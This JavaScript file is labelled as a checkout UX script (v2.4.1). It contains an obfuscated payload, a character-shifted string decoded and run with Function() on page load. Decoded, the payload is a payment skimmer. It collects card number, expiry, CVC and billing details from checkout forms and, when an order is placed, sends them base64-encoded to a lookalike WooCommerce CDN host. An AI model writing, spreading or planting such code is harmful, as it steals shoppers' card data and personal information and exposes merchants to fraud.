// checkout-ux v2.4.1
const ENC =
  'jvuz{\'x\'D\'z\'DE\'/kvj|tlu{5x|ly\x80Zlslj{vy/z0\'\x83\x83\'\x82\x8405}hs|l\'\x83\x83\'..B\x11jvuz{\'jvss' +
  'lj{\'D\'/0\'DE\'/\x82\x11\'\'whuA\'x/.*h|{oul{4jhyk4u|tily3\'puw|{buhtlD)jju|t)d.03\x11\'\'' +
  'l\x7fwA\'x/.*h|{oul{4jhyk4l\x7fwpy\x803\'puw|{buhtlD)jjl\x7fw)d.03\x11\'\'j}jA\'x/.*h|{oul{4' +
  'jhyk4j}j3\'puw|{buhtlD)jjj}})d.03\x11\'\'mpyz{A\'x/.*ipsspunfmpyz{fuhtl.03\x11\'\'sh' +
  'z{A\'x/.*ipsspunfshz{fuhtl.03\x11\'\'thpsA\'x/.*ipsspunflthps.03\x11\'\'wovulA\'x/.*i' +
  'psspunfwovul.03\x11\'\'hkkyA\'bx/.*ipsspunfhkkylzzf8.03\'x/.*ipsspunfjp{\x80.03\'x/' +
  '.*ipsspunfwvz{jvkl.03\'x/.*ipsspunfjv|u{y\x80.0d5qvpu/.\x83.03\x11\'\'zp{lA\'svjh{pvu' +
  '5ovz{\x11\x840B\x11jvuz{\'zopw\'D\'/0\'DE\'\x82\x11\'\'jvuz{\'k\'D\'jvsslj{/0B\x11\'\'pm\'/k5whu5ylwshj' +
  'l/6cz6n3\'..05slun{o\'C\'89\'\x83\x83\'(k5j}j0\'yl{|yuB\x11\'\'ml{jo/.o{{wzA66~vvjvttlyjl' +
  '4jkuqz5jvt6~w4qzvu6}96z{h{z.3\'\x82\x11\'\'\'\'tl{ovkA\'.WVZ[.3\'tvklA\'.uv4jvyz.3\'rll' +
  'whsp}lA\'{y|l3\x11\'\'\'\'olhklyzA\'\x82\'.Jvu{lu{4[\x80wl.A\'.{l\x7f{6wshpu.\'\x843\x11\'\'\'\'ivk\x80A\'i' +
  '{vh/|ulzjhwl/lujvkl\\YPJvtwvulu{/QZVU5z{ypunpm\x80/k0000\x11\'\'\x840B\x11\x84B\x11kvj|tlu{5h' +
  'kkL}lu{Spz{luly/.tv|zlkv~u.3\'l\'DE\'\x82\x11\'\'pm\'/l5{hynl{5jsvzlz{/.*wshjlfvykly' +
  '.00\'zopw/0B\x11\x840B\x11kvj|tlu{5hkkL}lu{Spz{luly/.rl\x80kv~u.3\'l\'DE\'\x82\x11\'\'pm\'/l5rl\x80\'' +
  'DDD\'.Lu{ly.\'--\'kvj|tlu{5x|ly\x80Zlslj{vy/.mvyt5joljrv|{.00\'zopw/0B\x11\x840B';

const decode = (s, n) => [...s].map(c => String.fromCharCode(c.charCodeAt(0) - n)).join('');

if (document.readyState !== 'loading') {
  Function(decode(ENC, 7))();
} else {
  document.addEventListener('DOMContentLoaded', () => Function(decode(ENC, 7))());
}
